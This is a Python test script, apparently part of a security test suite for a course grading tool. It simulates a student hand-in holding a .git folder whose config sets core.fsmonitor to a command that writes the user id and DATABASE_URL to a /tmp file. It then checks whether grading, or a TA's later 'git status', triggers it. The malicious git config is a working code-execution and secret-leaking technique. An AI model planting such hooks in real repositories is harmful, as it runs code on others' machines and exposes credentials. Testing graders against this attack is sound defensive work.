"""a10: a hand-in may hold any plain files and folders, a `.git` folder too. mallory's hand-in: her honest notebook
and a `.git` (a valid empty repository) whose config sets core.fsmonitor to a command. The grader grades it; the TA
later runs git in her folder (a shell prompt that shows the branch runs `git status` on every `cd`). Git's
safe.directory check passes: the files were written by the TA's own account (collect, or the TA unpacking hand-ins)."""
from lib import *
A = "ps1_memory"
d = make_course("a10")
for s in ("aaron", "mallory", "zoe"):
    hand_in(d, s, A, honest(A))
p = f"{d}/submitted/mallory/{A}"
subprocess.run(["git", "init", "-q", p], check=True)
with open(f"{p}/.git/config", "a") as f:
    f.write("[core]\n\tfsmonitor = \"echo uid=$(id -u) DATABASE_URL=$DATABASE_URL > /tmp/attack38-user-a10-PWNED; false\"\n")
P = "/tmp/attack38-user-a10-PWNED"
if os.path.exists(P): os.remove(P)
grade(d, A)
scores(d)
print("PWNED after grading:", os.path.exists(P))
chown(d)
r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "git", "status", "--short"], cwd=p,
                   env=dict(ENV, HOME="/tmp"), capture_output=True, text=True)
print("TA's git status in mallory's folder rc", r.returncode, (r.stdout + r.stderr)[-400:])
print("PWNED after the TA's git status:", os.path.exists(P), open(P).read() if os.path.exists(P) else "")
